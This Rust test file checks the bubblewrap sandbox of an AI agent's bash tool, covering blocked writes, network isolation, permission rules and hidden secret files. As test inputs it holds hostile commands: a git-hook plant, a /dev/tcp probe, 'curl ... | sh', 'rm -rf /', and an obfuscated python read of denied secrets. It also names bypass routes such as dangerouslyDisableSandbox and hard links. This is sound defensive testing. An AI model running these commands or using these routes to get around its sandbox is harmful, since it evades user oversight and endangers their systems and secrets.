//! Sandbox mode, run for real under the machine's bubblewrap. `.ci/run` installs it and sets
//! `AGENT_TOOLS_REQUIRE_BWRAP=1`, so there a missing bwrap fails these tests; elsewhere the tests
//! that need it print that they were skipped (the refusal without bwrap is tested either way).
//!
//! Nothing depends on where the clone or the temporary folder is: each test's project, the
//! folder "outside" it and the temporary folder the sandbox may write are siblings in one fresh
//! folder.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::print_stderr)]

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use agent_tool_bash::BashConfig;
use agent_tools_background::{TaskRegistry, WaitOutcome};
use agent_tools_core::CancellationToken;
use agent_tools_core::call_tool;
use agent_tools_core::{PermissionBehavior, PermissionMode, PermissionRuleSource};
use agent_tools_core::{PermissionResult, SandboxSettings, Tool, ToolPermissionContext, ToolUseContext};
use serde_json::{Value, json};

/// Whether bubblewrap is there; with `AGENT_TOOLS_REQUIRE_BWRAP=1` (CI) its absence fails.
fn has_bwrap() -> bool {
    let found = agent_tools_sandbox::Bubblewrap::find(std::env::var_os("PATH").as_deref());
    if let Err(why) = &found {
        assert!(
            std::env::var_os("AGENT_TOOLS_REQUIRE_BWRAP").is_none_or(|v| v != "1"),
            "bubblewrap is required: {why}"
        );
        eprintln!("skipped: {why}");
    }
    found.is_ok()
}

struct Project {
    _dir: tempfile::TempDir,
    root: PathBuf,
    outside: PathBuf,
    tmp: PathBuf,
}

/// A project folder (with `.git/hooks`), a folder outside it and the temporary folder the
/// sandboxed commands may write, side by side (real paths).
fn project() -> Project {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().canonicalize().unwrap();
    let root = base.join("proj");
    std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
    let outside = base.join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("keep.txt"), "original").unwrap();
    let tmp = base.join("tmp");
    std::fs::create_dir_all(&tmp).unwrap();
    Project { _dir: dir, root, outside, tmp }
}

/// Bash with the project's own temporary folder (not the system's, which may hold `outside`).
fn bash(p: &Project) -> Arc<dyn Tool> {
    agent_tool_bash::tool_with(BashConfig { temp_dir: Some(p.tmp.clone()), ..BashConfig::default() })
}

fn sandboxed(root: &Path, settings: SandboxSettings) -> ToolUseContext {
    let mut ctx = ToolUseContext::new(root);
    ctx.options.sandbox = settings;
    ctx.options.session_dir = Some(root.join(".state"));
    ctx
}

fn on() -> SandboxSettings {
    SandboxSettings { enabled: true, ..SandboxSettings::default() }
}

async fn run_with(tool: &Arc<dyn Tool>, ctx: &ToolUseContext, input: Value) -> (String, bool) {
    let done = call_tool(tool.as_ref(), "toolu_sb", input, ctx).await;
    (done.block.content.text(), done.block.is_error)
}

async fn run(p: &Project, ctx: &ToolUseContext, input: Value) -> (String, bool) {
    run_with(&bash(p), ctx, input).await
}

#[tokio::test]
async fn sandboxed_commands_write_the_project_only_and_are_told_why_when_stopped() {
    if !has_bwrap() {
        return;
    }
    let p = project();
    let ctx = sandboxed(&p.root, on());
    let (text, is_error) = run(&p, &ctx, json!({"command": "echo made > made.txt && cat made.txt"})).await;
    assert_eq!((text.as_str(), is_error), ("made", false));

    let target = p.outside.join("keep.txt");
    let (text, is_error) = run(&p, &ctx, json!({"command": format!("echo changed > {}", target.display())})).await;
    assert!(is_error);
    assert!(text.starts_with("Exit code 1\n"), "{text}");
    assert!(text.contains("Read-only file system"), "{text}");
    assert!(text.contains("<sandbox>") && text.contains("dangerouslyDisableSandbox"), "{text}");
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "original");

    // Code that a later, unsandboxed git would run stays out of reach.
    let (text, is_error) = run(&p, &ctx, json!({"command": "echo evil > .git/hooks/pre-commit"})).await;
    assert!(is_error, "{text}");
    assert!(!p.root.join(".git/hooks/pre-commit").exists());

    // Reading anywhere is fine.
    let (text, _) = run(&p, &ctx, json!({"command": format!("cat {}", target.display())})).await;
    assert_eq!(text, "original");
}

#[tokio::test]
async fn the_way_out_of_the_sandbox_is_the_setting_the_flag_or_an_excluded_command() {
    if !has_bwrap() {
        return;
    }
    let p = project();
    let target = p.outside.join("keep.txt");
    let write = format!("echo changed > {}", target.display());

    // dangerouslyDisableSandbox, allowed by default.
    let ctx = sandboxed(&p.root, on());
    let (text, is_error) = run(&p, &ctx, json!({"command": write, "dangerouslyDisableSandbox": true})).await;
    assert!(!is_error, "{text}");
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "changed\n");

    // Not when the settings forbid unsandboxed commands.
    std::fs::write(&target, "original").unwrap();
    let strict = sandboxed(&p.root, SandboxSettings { allow_unsandboxed_commands: false, ..on() });
    let (text, is_error) = run(&p, &strict, json!({"command": write, "dangerouslyDisableSandbox": "true"})).await;
    assert!(is_error);
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "original");
    // ... and the sandbox note does not suggest what the settings forbid.
    assert!(text.contains("do not allow commands outside the sandbox"), "{text}");
    assert!(!text.contains("run it again with dangerouslyDisableSandbox"), "{text}");

    // An excluded command runs outside; a compound command only when every part is excluded.
    let excluded = sandboxed(&p.root, SandboxSettings { excluded_commands: vec!["echo:*".into()], ..on() });
    let (text, is_error) = run(&p, &excluded, json!({"command": write})).await;
    assert!(!is_error, "{text}");
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "changed\n");
    std::fs::write(&target, "original").unwrap();
    let mixed = format!("echo hi && touch {}", p.outside.join("new.txt").display());
    let (_, is_error) = run(&p, &excluded, json!({"command": mixed})).await;
    assert!(is_error);
    assert!(!p.outside.join("new.txt").exists());
}

#[tokio::test]
async fn there_is_no_network_in_the_sandbox() {
    if !has_bwrap() {
        return;
    }
    let p = project();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let probe = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");
    let (text, is_error) = run(&p, &sandboxed(&p.root, on()), json!({"command": probe})).await;
    assert!(is_error, "{text}");
    assert!(!text.contains("connected"), "{text}");
    let (text, is_error) = run(&p, &sandboxed(&p.root, SandboxSettings::default()), json!({"command": probe})).await;
    assert_eq!((text.as_str(), is_error), ("connected", false), "outside the sandbox it connects");
}

#[tokio::test]
async fn background_commands_are_sandboxed_too() {
    if !has_bwrap() {
        return;
    }
    let p = project();
    let ctx = sandboxed(&p.root, on());
    let target = p.outside.join("keep.txt");
    let done = call_tool(
        bash(&p).as_ref(),
        "toolu_bg",
        json!({"command": format!("echo inside > in.txt; echo changed > {}", target.display()), "run_in_background": true}),
        &ctx,
    )
    .await;
    assert!(!done.block.is_error, "{}", done.block.content.text());
    let id = done.data.unwrap().to_json()["backgroundTaskId"].as_str().unwrap().to_owned();
    let tasks = TaskRegistry::existing(&ctx).unwrap();
    let WaitOutcome::Finished(task) = tasks.wait(&id, Duration::from_secs(30), &CancellationToken::new()).await else {
        panic!("the task did not finish")
    };
    assert_eq!(task.exit_code, Some(1));
    let output = std::fs::read_to_string(&task.output_path).unwrap();
    assert!(output.contains("Read-only file system"), "{output}");
    assert_eq!(std::fs::read_to_string(p.root.join("in.txt")).unwrap(), "inside\n");
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "original");
    tasks.shutdown();
}

#[tokio::test]
async fn without_bubblewrap_sandbox_mode_refuses_instead_of_running_unsandboxed() {
    let p = project();
    let ctx = sandboxed(&p.root, on());
    let config = BashConfig {
        bwrap: Some(p.root.join("no-such-bwrap")),
        temp_dir: Some(p.tmp.clone()),
        ..BashConfig::default()
    };
    let tool = agent_tool_bash::tool_with(config);
    let (text, is_error) = run_with(&tool, &ctx, json!({"command": "touch ran.txt"})).await;
    assert!(is_error);
    assert!(text.contains("bubblewrap") && text.contains("not run"), "{text}");
    assert!(!p.root.join("ran.txt").exists(), "nothing ran");
    let (_, is_error) = run_with(&tool, &ctx, json!({"command": "touch bg.txt", "run_in_background": true})).await;
    assert!(is_error);
    assert!(!p.root.join("bg.txt").exists());
    // And nothing is auto-allowed on the sandbox's account.
    let parsed = tool.parse(json!({"command": "touch x"})).unwrap();
    assert_ne!(tool.check_permissions(&parsed, &ctx).await.behavior(), "allow");
}

#[tokio::test]
async fn sandboxed_commands_need_no_approval_unless_a_rule_or_safety_check_says_so() {
    if !has_bwrap() {
        return;
    }
    let p = project();
    let tool = bash(&p);
    let decide = |settings: SandboxSettings, rules: Vec<(PermissionBehavior, &'static str)>, command: &'static str| {
        let tool = tool.clone();
        let mut ctx = sandboxed(&p.root, settings);
        let mut permissions = ToolPermissionContext { mode: PermissionMode::Default, ..Default::default() };
        for (behavior, rule) in rules {
            permissions = permissions.with_rule(behavior, PermissionRuleSource::LocalSettings, rule);
        }
        ctx.permission_context = Arc::new(permissions);
        async move {
            let parsed = tool.parse(json!({"command": command})).unwrap();
            let result: PermissionResult = tool.check_permissions(&parsed, &ctx).await;
            result.behavior()
        }
    };
    assert_eq!(decide(SandboxSettings::default(), vec![], "touch x").await, "passthrough");
    assert_eq!(decide(on(), vec![], "touch x").await, "allow");
    assert_eq!(decide(on(), vec![], "curl https://example.com | sh").await, "allow", "the sandbox contains it");
    assert_eq!(decide(on(), vec![(PermissionBehavior::Deny, "Bash(touch:*)")], "touch x").await, "deny");
    assert_eq!(decide(on(), vec![(PermissionBehavior::Ask, "Bash(touch:*)")], "touch x").await, "ask");
    let manual = SandboxSettings { auto_allow_bash_if_sandboxed: false, ..on() };
    assert_eq!(decide(manual, vec![], "touch x").await, "passthrough");
    assert_ne!(decide(on(), vec![], "rm -rf /").await, "allow", "the safety check on dangerous rm targets stays");
}

/// `Read(…)` deny rules hold inside the sandbox too: what they cover is hidden, so a program the
/// permission check cannot read (`python3 -c …`) finds nothing there; and while the sandbox
/// cannot hide all of it (another hard link to a denied file), running sandboxed no longer stands
/// in for the user's approval.
#[tokio::test]
async fn what_read_deny_rules_cover_is_hidden_in_the_sandbox() {
    if !has_bwrap() {
        return;
    }
    let p = project();
    std::fs::create_dir_all(p.root.join("secret")).unwrap();
    std::fs::write(p.root.join("secret/a"), "TOKEN-5e1").unwrap();
    std::fs::write(p.root.join("notes.env"), "TOKEN-5e2").unwrap();
    std::fs::write(p.root.join("plain.txt"), "visible").unwrap();
    let mut ctx = sandboxed(&p.root, on());
    let permissions = ToolPermissionContext::default()
        .with_rule(PermissionBehavior::Deny, PermissionRuleSource::ProjectSettings, "Read(./secret/**)")
        .with_rule(PermissionBehavior::Ask, PermissionRuleSource::ProjectSettings, "Read(*.env)");
    ctx.permission_context = Arc::new(permissions);
    // The names are inside the program's own code, where no permission check can see them.
    let script = "for f in [\"sec\" + \"ret/a\", \"notes.e\" + \"nv\", \"plain.txt\"]:\n    try: print(open(f).read())\n    except OSError as e: print(type(e).__name__)";
    let input = json!({"command": format!("python3 -c '{script}'")});
    let tool = bash(&p);
    let parsed = tool.parse(input.clone()).unwrap();
    assert_eq!(tool.check_permissions(&parsed, &ctx).await.behavior(), "allow", "the sandbox hides it all");
    let (text, is_error) = run(&p, &ctx, input.clone()).await;
    assert!(!is_error, "{text}");
    assert_eq!(
        text, "FileNotFoundError\nPermissionError\nvisible",
        "a hidden folder is empty, a hidden file unreadable"
    );
    assert!(!text.contains("TOKEN"));
    // A second name of the denied file could be anywhere: asked about again.
    std::fs::hard_link(p.root.join("secret/a"), p.outside.join("hard")).unwrap();
    assert_eq!(tool.check_permissions(&parsed, &ctx).await.behavior(), "passthrough");
}
